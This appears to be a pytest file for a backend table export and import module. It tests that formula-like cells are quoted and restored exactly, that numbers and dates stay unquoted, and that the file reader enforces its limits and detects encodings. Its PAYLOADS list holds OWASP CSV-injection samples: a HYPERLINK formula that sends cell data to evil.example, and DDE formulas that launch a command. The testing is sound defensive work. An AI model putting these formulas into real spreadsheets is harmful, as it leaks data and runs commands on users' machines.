"""Cells of exported tables: text that a spreadsheet would run is quoted, and reads back."""
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from backend.core.tabular import csv_cell, neutralise, restore_cell, xlsx_row

# The payloads from the OWASP page on CSV injection and from the issue.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "+77011234567",
]
HARMLESS = ["Абай", "Ахметова-Серікқызы", "12К", "'Abai", "", "a=b", "дом 5-а", "#"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert neutralise(text) == "'" + text
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert neutralise(text) == text
    assert restore_cell(text) == text


@pytest.mark.parametrize("text", [*PAYLOADS, *HARMLESS, "'=1+1", "''-2", "'''@x", "'", "''"])
def test_restoring_gives_back_exactly_what_was_written(text):
    assert restore_cell(neutralise(text)) == text


def test_numbers_and_dates_are_not_quoted():
    assert csv_cell(-2) == "-2"
    assert csv_cell(-54.5) == "-54.5"
    assert csv_cell(Decimal("-1.5")) == "-1.5"
    assert csv_cell(-3, number=lambda v: f"{v:g}".replace(".", ",")) == "-3"
    assert csv_cell(datetime.date(1948, 3, 12)) == "1948-03-12"
    assert csv_cell(None) == ""
    assert restore_cell(-2) == -2


def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("t")
    sheet.append(xlsx_row(sheet, [*PAYLOADS, "#N/A", "Абай", None, -2, 4.5,
                                  datetime.date(2027, 12, 31)]))
    out = io.BytesIO()
    book.save(out)

    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]
    for text, cell in zip(PAYLOADS, cells, strict=False):
        assert cell.data_type == "s", text
        xml_text = text.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert cell.value == "'" + xml_text
        assert restore_cell(cell.value) == xml_text
    rest = cells[len(PAYLOADS):]
    assert [(c.data_type, c.value) for c in rest[:5]] == [
        ("s", "#N/A"), ("s", "Абай"), ("n", None), ("n", -2), ("n", 4.5)]
    assert rest[5].is_date and rest[5].value.date() == datetime.date(2027, 12, 31)


# Reading ---------------------------------------------------------------------------------------


def _xlsx(rows: list[list]) -> bytes:
    import io

    from openpyxl import Workbook

    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _file_error(content: bytes, filename: str = "", **limits) -> str:
    from backend.core.tabular import ImportFileError, Limits, read_table

    with pytest.raises(ImportFileError) as error:
        read_table(content, filename, limits=Limits(**limits))
    assert list(error.value.fields)[0] == "file"
    return error.value.code


def test_read_table_csv_and_xlsx_give_the_same_rows_as_the_user_numbers_them():
    from backend.core.tabular import read_table

    text = "Last name;Phone\n\nАхметова;'+77011234567\n;\n Әлия ;x\n"
    for content, name in ((text.encode("utf-8"), "a.csv"),
                          (text.encode("utf-16"), "a.csv"),
                          (b"\xef\xbb\xbf" + text.encode(), "a.csv"),
                          (_xlsx([["Last name", "Phone"], [None, None],
                                  ["Ахметова", "'+77011234567"], [None, ""],
                                  [" Әлия ", "x"]]), "a.xlsx")):
        table = read_table(content, name)
        assert table.header == ["last_name", "phone"], name
        assert table.rows == [(3, ["Ахметова", "+77011234567"]), (5, ["Әлия", "x"])], name


def test_read_table_limits_and_unreadable_files():
    assert _file_error(b"") == "import.empty_file"
    assert _file_error(b"\n;\n") == "import.empty_file"
    assert _file_error(b"a;b\n") == "import.empty_file"  # a header, no rows
    assert _file_error(b"a;b\n1;2\n" * 10, max_bytes=20) == "import.too_large"
    assert _file_error(b"a;b\n1;2\n1;2\n1;2\n", max_rows=2) == "import.too_many_rows"
    assert _file_error(_xlsx([["a"]] + [[n] for n in range(10)]), max_rows=2) == (
        "import.too_many_rows")
    assert _file_error(b"a;b;c\n1;2;3\n", max_columns=2) == "import.too_many_columns"
    assert _file_error(b"a;b\n1;2;3\n", max_columns=2) == "import.too_many_columns"
    assert _file_error(b"PK\x03\x04broken", "a.xlsx") == "import.bad_file"
    assert _file_error(b"\xd0\xcf\x11\xe0" + b"\0" * 10, "a.xls") == "import.bad_file"
    assert _file_error(b"\xff\xfea") == "import.bad_file"
    assert _file_error(b"a;b\n\x00\x98\xff;1\n") == "import.bad_file"


def test_decode_takes_the_kazakh_ansi_code_page_when_it_fits_as_well():
    from backend.core.tabular import decode

    assert decode("Қара сөздер;Абай".encode("kz1048")) == "Қара сөздер;Абай"
    assert decode("Тихий Дон;Шолохов".encode("cp1251")) == "Тихий Дон;Шолохов"
